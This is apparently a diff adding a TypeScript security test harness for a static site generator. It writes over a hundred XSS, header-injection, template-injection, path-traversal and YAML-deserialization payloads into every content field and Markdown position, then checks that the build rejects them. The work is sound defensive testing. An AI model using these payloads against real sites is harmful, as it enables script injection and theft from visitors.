@@ -1,0 +1,366 @@
+// The site with attacks in its content: what attackers write, where it is put, and builds of it. A field whose value the
+// build refuses, at its own line, keeps what it had; everything else carries the attack.
+import { execFile } from "node:child_process";
+import { cpSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { dirname, join, resolve } from "node:path";
+
+const repository = resolve(import.meta.dirname, "../..");
+const sitegen = resolve(repository, process.env.SITEGEN ?? "target/release/sitegen");
+
+/** A value of content: its file, its lines from zero, and what stands before it. */
+interface Field {
+  file: string;
+  start: number;
+  end: number;
+  head: string;
+}
+
+export interface Outcome {
+  tried: number;
+  /** Fields that kept their value because the build refused the attack, with the codes it gave. */
+  refused: number;
+  codes: string[];
+}
+
+/** Every one calls `pwned()` wherever it comes to run, or asks `e.example` for something wherever it comes to load. */
+export const attacks: readonly string[] = [
+  // out of text, attributes, and elements with rules of their own
+  `<script>pwned()</script>`,
+  `<ScRiPt >pwned()</sCrIpT >`,
+  `<script src=//e.example/x.js></script>`,
+  `</script><script>pwned()</script>`,
+  `<!--<script>pwned()</script>`,
+  `--><script>pwned()</script><!--`,
+  `--!><img src=x onerror=pwned()>`,
+  `<!--><img src=x onerror=pwned()>-->`,
+  `]]><script>pwned()</script>`,
+  `<![CDATA[<img src=x onerror=pwned()>]]>`,
+  `</title><script>pwned()</script>`,
+  `</textarea><img src=x onerror=pwned()>`,
+  `</style><img src=x onerror=pwned()>`,
+  `</noscript><img src=x onerror=pwned()>`,
+  `</template><img src=x onerror=pwned()>`,
+  `</iframe><img src=x onerror=pwned()>`,
+  `<img src=x onerror=pwned()>`,
+  `<img/src=x/onerror=pwned()>`,
+  `<svg onload=pwned()>`,
+  `<svg/onload=pwned()//`,
+  `<svg><set attributeName=href to=javascript:pwned()>`,
+  `<svg><a><animate attributeName=href values=javascript:pwned()></animate><text y=9>x</text></a>`,
+  `<svg><title><img src=x onerror=pwned()></title></svg>`,
+  `<svg><style><img src=x onerror=pwned()></style>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=pwned()>`,
+  `<math href=javascript:pwned()>x</math>`,
+  `<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
+  `<iframe srcdoc="<script>parent.pwned()</script>">`,
+  `<iframe src=javascript:pwned()>`,
+  `<iframe><p title="</iframe><img src=x onerror=pwned()>">`,
+  `<object data=javascript:pwned()>`,
+  `<embed src=//e.example/x.swf>`,
+  `<base href=//e.example/>`,
+  `<meta http-equiv=refresh content="0;url=//e.example/">`,
+  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
+  `<link rel=stylesheet href=//e.example/x.css>`,
+  `<link rel=modulepreload href=//e.example/x.js>`,
+  `<form action=//e.example/><button formaction=javascript:pwned()>`,
+  `<input autofocus onfocus=pwned()>`,
+  `<details open ontoggle=pwned()>`,
+  `<video><source onerror=pwned()></video>`,
+  `<body onpageshow=pwned()>`,
+  `<html onmouseover=pwned()>`,
+  `<div data-island=ContactForm data-modules=//e.example/x.js data-hydrate=load>`,
+  `<div data-island="X" data-modules="data:text/javascript,pwned()" data-hydrate="load" data-props="{}">`,
+  `" onmouseover="pwned()`,
+  `' onmouseover='pwned()`,
+  `" autofocus onfocus=pwned() x="`,
+  `"><script>pwned()</script>`,
+  `'><script>pwned()</script>`,
+  `\`><script>pwned()</script>`,
+  `x onerror=pwned()`,
+  `/onload=pwned()`,
+  `\\"><script>pwned()</script>`,
+  `\\u003cscript>pwned()\\u003c/script>`,
+  `&lt;script&gt;pwned()&lt;/script&gt;`,
+  `&quot; onload=pwned() x=&quot;`,
+  `&#60;img src=x onerror=pwned()&#62;`,
+  `&#x22;&#x3e;&#x3c;script&#x3e;pwned()`,
+  `<\u0000script>pwned()</script>`,
+  `＜script＞pwned()＜/script＞`,
+  `%3Cscript%3Epwned()%3C/script%3E`,
+  `+ADw-script+AD4-pwned()+ADw-/script+AD4-`,
+  // addresses
+  `javascript:pwned()`,
+  `JaVaScRiPt:pwned()`,
+  ` javascript:pwned()`,
+  `java\tscript:pwned()`,
+  `java\nscript:pwned()`,
+  `\u0001javascript:pwned()`,
+  `javascript&colon;pwned()`,
+  `&#106;avascript:pwned()`,
+  `java&Tab;script:pwned()`,
+  `javascript://e.example/%0apwned()`,
+  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+pwned()//'>`,
+  `vbscript:pwned()`,
+  `data:text/html,<script>parent.pwned()</script>`,
+  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>`,
+  `//e.example/x`,
+  `\\\\e.example\\x`,
+  `/\\e.example/x`,
+  `/x, //e.example/x 2x`,
+  `https://e.example/x.png; script-src * 'unsafe-inline'`,
+  `../../../../etc/passwd`,
+  // policies, headers and styles
+  `'unsafe-inline'; script-src *`,
+  `x; script-src 'unsafe-inline' *; report-uri //e.example`,
+  `x\r\nSet-Cookie: a=b\r\n\r\n<script>pwned()</script>`,
+  `x\n  X-Evil: 1\n/*\n  Content-Security-Policy: script-src *`,
+  `}</style><script>pwned()</script>`,
+  `red;background:url(//e.example/x.png)`,
+  `expression(pwned())`,
+  `@import "//e.example/x.css";`,
+  // template languages, JSON, JavaScript
+  `{{ 7 * 7 }}`,
+  `{{ site.email | safe }}`,
+  `{% include "base.html" %}<script>pwned()</script>`,
+  `{{ get_env(name="HOME") }}`,
+  `\${pwned()}`,
+  `"}</script><script>pwned()</script>{"`,
+  `","__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned()>"}},"x":"`,
+  `{"__html":"<img src=x onerror=pwned()>"}`,
+  `\u2028pwned()\u2029`,
+  `*/pwned()/*`,
+  // the engine's own marks
+  `\ue0000\ue001<script>pwned()</script>`,
+  `\ue002ContactForm\u001fload\u001f{"form":{"note":"<script>pwned()</script>"}}\ue003`,
+  `\ue003\ue002`,
+  `\ue004templates/base.html:0\ue005<script>pwned()</script>`,
+  `\u001e\u001fhtml\u001f<script>pwned()</script>`,
+  // letters that browsers, terminals and parsers trip over
+  `\u202e>tpircs/<)(denwp>tpircs<`,
+  `\ufeff<script>pwned()</script>`,
+  `\ud83d\ude00<script>pwned()</script>\u0301\u200d`,
+  `\u0000\u0008\u001b[2J\u007f\u0085`,
+  // Markdown
+  `[x](javascript:pwned())`,
+  `[x](<java\tscript:pwned()>)`,
+  `[x](javascript&#58;pwned())`,
+  `![x](x"onerror="pwned())`,
+  `![x](//e.example/x.png)`,
+  `<javascript:pwned()>`,
+  `<https://e.example/"onmouseover="pwned()>`,
+  `[x]: javascript:pwned()`,
+  `](javascript:pwned()) [`,
+  `"onclick="pwned()`,
+  `{onclick=pwned()}`,
+  `{#x" onclick="pwned()}`,
+  "```html\n<script>pwned()</script>",
+  "x` <script>pwned()</script> `",
+  `[^x]: <script>pwned()</script>`,
+  `|<img src=x onerror=pwned()>|\n|---|`,
+  // out of the front matter
+  `x\n---\n<script>pwned()</script>\n---\n`,
+];
+
+/** What is written into YAML as it stands, without quotes around it: tricks with its own grammar. */
+export const rawYaml: readonly string[] = [
+  `x\n---\n<script>pwned()</script>`,
+  `&a <script>pwned()</script>`,
+  `*a`,
+  `!!js/function "pwned()"`,
+  `!!python/object/apply:os.system ["touch /tmp/pwned"]`,
+  `!include /etc/passwd`,
+  `|\n  <script>pwned()</script>`,
+  `{ __html: <script>pwned()</script> }`,
+  `[<script>pwned()</script>]`,
+  `x # <script>pwned()</script>`,
+  `x\nraw_html: true`,
+  `{{ site.email }}<script>pwned()</script>`,
+];
+
+/** Where Markdown can hold an attack. Each is a block of its own. */
+const positions = (attack: string): string[] => [
+  `Text ${attack} text`,
+  `## Heading ${attack}`,
+  `- item ${attack}`,
+  `> quote ${attack}`,
+  `| head ${attack} |\n|---|\n| cell ${attack} |`,
+  `[link ${attack}](/careers)`,
+  `[link](${attack})`,
+  `[link](<${attack}>)`,
+  `[link](/careers "${attack}")`,
+  `[link](/careers '${attack}')`,
+  `[link][one]\n\n[one]: /careers "${attack}"`,
+  `[link][two]\n\n[two]: ${attack}`,
+  `![${attack}](brand/favicon-48.png)`,
+  `![x](${attack})`,
+  `![x](brand/favicon-48.png "${attack}")`,
+  `\`${attack}\``,
+  `\`\`\`${attack}\ncode ${attack}\n\`\`\``,
+  `    ${attack}`,
+  `<${attack}>`,
+  `## Own id {#${attack}}`,
+  `Note[^a]\n\n[^a]: note ${attack}`,
+  `**${attack}** *${attack}* ~~${attack}~~`,
+  `\\${attack}`,
+  attack,
+  `<!-- ${attack} -->`,
+  `<b title="${attack}">${attack}</b>`,
+];
+
+/** A copy of the project without schemas and budgets, so that every field takes any text. */
+export class Target {
+  readonly root: string;
+  private readonly originals = new Map<string, string[]>();
+  readonly fields: Field[] = [];
+
+  private readonly choices: boolean;
+
+  /** With `choices`, only the fields are attacked that choose what is shown; without, all others. */
+  constructor(root: string, { withSchemas = false, choices = false } = {}) {
+    this.root = root;
+    this.choices = choices;
+    for (const part of ["content", "templates", "islands", "package.json", "package-lock.json"])
+      cpSync(join(repository, part), join(root, part), { recursive: true });
+    symlinkSync(join(repository, "node_modules"), join(root, "node_modules"));
+    if (!withSchemas) rmSync(join(root, "content/schemas"), { recursive: true });
+    const site = join(root, "content/site.yaml");
+    writeFileSync(site, readFileSync(site, "utf8").replace(/\n  # What a visitor[\s\S]*?budgets:[\s\S]*?(?=\n\S|$)/, "\n"));
+    for (const name of readdirSync(join(root, "content"), { recursive: true, encoding: "utf8" }))
+      if (/\.(yaml|md)$/.test(name)) this.read(`content/${name}`);
+  }
+
+  private read(file: string): void {
+    const lines = readFileSync(join(this.root, file), "utf8").split("\n");
+    this.originals.set(file, lines);
+    const end = file.endsWith(".md") ? lines.indexOf("---", 1) : lines.length;
+    for (let start = 0; start < end; start++) {
+      const [, head, value] = /^(\s*(?:- )*(?:\w+: +)?)([^\s#].*)$/.exec(lines[start]!) ?? [];
+      if (value === undefined || value.endsWith(":") || value === "---" || head!.trim() === "") continue;
+      // With another value than these, whole sections are not shown, and there would be less to attack.
+      if (/^\s*(status|currency):/.test(head!) !== this.choices) continue;
+      const indent = head!.search(/[^\s-]|$/);
+      let last = start + 1;
+      if (/^[>|]/.test(value)) while (last < end && lines[last]!.search(/\S/) >= Math.max(indent, 1)) last++;
+      this.fields.push({ file, start, end: last, head: head! });
+    }
+  }
+
+  /** Builds with the attack in every field and at every position that the build does not refuse. */
+  async attack(attack: string, out: string, isRaw = false): Promise<Outcome> {
+    const codes = new Set<string>();
+    // A trick with YAML cannot be told apart by a value of its own.
+    const passedOver = this.fields.filter((each) => isRaw && isReference(each));
+    const kept = new Set<Field>(passedOver);
+    const bodies = { "content/pages/attack.md": new Set<number>(), "content/pages/attack-html.md": new Set<number>() };
+    const blocks = positions(attack);
+    const value = isRaw ? attack : quoted(attack);
+    for (let round = 0; round < 400; round++) {
+      const places = new Map<string, (Field | number | undefined)[]>();
+      for (const [file, lines] of this.originals) {
+        const text: string[] = [];
+        const owners: (Field | undefined)[] = [];
+        const add = (written: string, owner?: Field) =>
+          written.split("\n").forEach((line) => (text.push(line), owners.push(owner)));
+        for (let line = 0; line < lines.length; line++) {
+          const field = this.fields.find((each) => each.file === file && each.start === line);
+          if (field && !kept.has(field)) {
+            add(field.head + (isReference(field) && !isRaw ? quoted(`${attack}#f${this.fields.indexOf(field)}`) : value), field);
+            line = field.end - 1;
+          } else add(lines[line]!);
+        }
+        writeFileSync(join(this.root, file), text.join("\n"));
+        places.set(file, owners);
+      }
+      for (const [file, removed] of Object.entries(bodies)) {
+        const text = `---\ntitle: Attack\ndescription: Attack\n${file.includes("html") ? "raw_html: true\n" : ""}---\n\n`;
+        const owners: (number | undefined)[] = Array(text.split("\n").length - 1).fill(undefined);
+        let body = text;
+        blocks.forEach((block, index) => {
+          if (removed.has(index)) return;
+          body += `${block}\n\n`;
+          owners.push(...`${block}\n`.split("\n").map(() => index));
+        });
+        writeFileSync(join(this.root, file), body);
+        places.set(file, owners);
+      }
+      const told = await build(this.root, out);
+      if (told.length === 0) {
+        const removed = Object.values(bodies).reduce((sum, each) => sum + each.size, 0);
+        const tried = this.fields.length - passedOver.length + 2 * blocks.length;
+        return { tried, refused: kept.size - passedOver.length + removed, codes: [...codes] };
+      }
+      const before = kept.size + Object.values(bodies).reduce((sum, each) => sum + each.size, 0);
+      for (const { file, line, code, message } of told) {
+        codes.add(code);
+        const named = /#f(\d+)/.exec(message);
+        if (named) {
+          kept.add(this.fields[Number(named[1])]!);
+          continue;
+        }
+        const removed = bodies[file as keyof typeof bodies];
+        // What opens at one block may be missed at the end of the file.
+        const owners = places.get(file ?? "") ?? [];
+        let at = Math.min(line ?? 1, owners.length) - 1;
+        if (removed) while (at > 0 && owners[at] === undefined) at--;
+        const owner = owners[at];
+        if (typeof owner === "number") removed!.add(owner);
+        else if (owner) kept.add(owner);
+      }
+      const after = kept.size + Object.values(bodies).reduce((sum, each) => sum + each.size, 0);
+      if (after > before) continue;
+      // A mistake that is told at a line without an attack was made by the file's other lines: all of them are given up.
+      for (const { file, page } of told as Told[])
+        for (const name of [file, page]) {
+          this.fields.filter((each) => each.file === name).forEach((each) => kept.add(each));
+          const removed = bodies[name as keyof typeof bodies];
+          if (removed) blocks.forEach((_, index) => removed.add(index));
+        }
+      const now = kept.size + Object.values(bodies).reduce((sum, each) => sum + each.size, 0);
+      if (now > after) continue;
+      if (kept.size < this.fields.length) this.fields.forEach((each) => kept.add(each));
+      else throw new Error(`${JSON.stringify(attack)} is refused where it is not: ${JSON.stringify(told)}`);
+    }
+    throw new Error(`${JSON.stringify(attack)}: no end of mistakes`);
+  }
+
+  write(file: string, text: string): void {
+    mkdirSync(dirname(join(this.root, file)), { recursive: true });
+    writeFileSync(join(this.root, file), text);
+  }
+}
+
+/** Keys whose value names a file or a page. Each gets a value of its own, by which a refusal is told apart from others. */
+const isReference = ({ head }: Field) => /^\s*(?:- )*(art|src|svg|png|apple_touch|image|path|url|template): /.test(head);
+
+export interface Told {
+  severity: string;
+  code: string;
+  message: string;
+  file: string | null;
+  line: number | null;
+  page: string | null;
+}
+
+/** Builds a project and gives its errors. One that crashes, or that tells a mistake without a place, is an error here. */
+export async function build(root: string, out: string): Promise<Told[]> {
+  const { status, stderr } = await new Promise<{ status: number | string | null; stderr: string }>((done) =>
+    execFile(
+      sitegen,
+      ["build", "--quiet", "--now", "2026-12-01", "--format", "json", "--root", root, "--out", out],
+      { timeout: 120_000, maxBuffer: 1 << 28 },
+      (error, _, stderr) => done({ status: error ? (error.code ?? null) : 0, stderr }),
+    ),
+  );
+  const lines = stderr.split("\n").filter(Boolean);
+  const told = lines.map((line) => JSON.parse(line) as Told).filter((each) => each.severity !== "warning");
+  if (status !== (told.length ? 1 : 0) || told.some((each) => !each.file))
+    throw new Error(`sitegen ended with ${status}: ${stderr}`);
+  return told;
+}
+
+/** A YAML text that is read as exactly this value. */
+const quoted = (text: string): string =>
+  `"${[...text]
+    .map((letter) => (/["\\]/.test(letter) ? `\\${letter}` : /[ -~]/.test(letter) ? letter : escaped(letter)))
+    .join("")}"`;
+const escaped = (letter: string) => `\\U${letter.codePointAt(0)!.toString(16).padStart(8, "0")}`;
